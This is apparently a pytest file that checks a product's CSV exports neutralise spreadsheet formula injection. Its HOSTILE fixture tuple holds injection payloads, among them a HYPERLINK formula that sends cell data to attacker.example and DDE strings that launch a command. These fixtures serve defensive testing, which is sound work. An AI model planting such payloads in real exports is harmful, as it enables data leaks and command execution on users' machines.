"""Every CSV export is formula-safe (CWE-1236, OWASP ASVS 1.2.10; issue 8, IN-4).

The product's CSV exports (found with ``grep -rn csv persona segments ui``):

* the segment labels CSV — ``segments.export_labels_csv``, written by
  ``persona.segmentation.assign_new_customers`` (``persona segments assign``) and by
  the UI's data tab;
* the panel CSV — ``persona.panel.export_panel`` (``persona panel … --csv``, UI panel tab).

Customer ids, the question and the model's answers are seeded with hostile cells;
every cell of every file is scanned: none may start with ``= + - @``, tab, CR or
NUL unless neutralised with a leading apostrophe.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

import segments
from persona.config import Settings
from persona.knowledge import close_clients
from persona.llm import ScriptedChatModel
from persona.panel import ask_panel, export_panel
from persona.segmentation import assign_new_customers, run_segmentation
from persona.services import Services
from segments.sample import make_customers
from tests.interview.support import add_persona, greta, maya

pytestmark = pytest.mark.timeout(120)

HOSTILE = (
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "=1+1",
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\0")


def unsafe_cells(text: str) -> list[str]:
    """Cells of the CSV ``text`` that a spreadsheet could run as a formula."""
    rows = csv.reader(io.StringIO(text.replace("\0", "\\0"), newline=""))
    bad = []
    for row in rows:
        for cell in row:
            cell = cell.replace("\\0", "\0")
            if cell.startswith(DANGEROUS):
                bad.append(cell)
    return bad


def cells(text: str) -> list[str]:
    """Every cell of the CSV ``text``."""
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def test_the_scanner_sees_a_raw_formula() -> None:
    assert unsafe_cells('a,=1+1,"\t=2"\r\n') == ["=1+1", "\t=2"]
    assert unsafe_cells("a,'=1+1\r\n") == []


def hostile_table(n: int = 300) -> pd.DataFrame:
    """Sample customers whose first ids are hostile strings."""
    frame, _ = make_customers(n, random_state=5)
    ids = list(frame["customer_id"])
    for number, value in enumerate(HOSTILE):
        ids[number] = value if value != "=1+1" else f"=1+{number}"
    frame["customer_id"] = ids
    return frame


def test_segment_labels_csv_neutralises_hostile_customer_ids(tmp_path: Path) -> None:
    frame = hostile_table()
    result = segments.fit_segments(frame, k=3, id_column="customer_id", bootstrap=2)
    path = segments.export_labels_csv(result, tmp_path / "labels.csv")
    text = path.read_text(encoding="utf-8")
    assert unsafe_cells(text) == []
    written = cells(text)
    assert sum(c.startswith("'") for c in written) >= len(HOSTILE)
    assert "'-2+3" in written


def test_assigned_labels_csv_of_the_cli_path_is_safe(tmp_path: Path) -> None:
    """``persona segments assign`` reads a new table and writes a labels CSV."""
    settings = Settings(home=tmp_path / "ws", llm_provider="fake", embeddings="hash")
    services = Services(settings)
    try:
        frame, _ = make_customers(300, random_state=6)
        table = tmp_path / "customers.csv"
        frame.to_csv(table, index=False)
        run_segmentation(services, table, k=3, id_column="customer_id")
        fresh = hostile_table(60)
        new_table = tmp_path / "new.parquet"
        fresh.to_parquet(new_table)
        written, _accuracy, count = assign_new_customers(services, new_table, tmp_path / "out.csv")
        text = written.read_text(encoding="utf-8")
        assert count == 60
        assert unsafe_cells(text) == []
        assert "'-2+3" in cells(text)
    finally:
        services.store.close()


@pytest.mark.parametrize("answer", HOSTILE)
def test_panel_csv_neutralises_hostile_model_output(tmp_path: Path, answer: str) -> None:
    settings = Settings(home=tmp_path / "ws", llm_provider="fake", embeddings="hash")
    services = Services(settings)
    try:
        ids = [add_persona(services, maya()), add_persona(services, greta())]
        services.use_model(ScriptedChatModel(replies=[answer, "@" + answer.lstrip()]))
        panel = ask_panel(services, "-1+2 what would make you =SUM(buy)?", persona_ids=ids)
        path = export_panel(services, panel.id, "csv", tmp_path / "panel.csv")
        text = path.read_text(encoding="utf-8")
        assert unsafe_cells(text) == []
        assert len(cells(text)) >= 3 * 6
    finally:
        close_clients(settings)
        services.store.close()
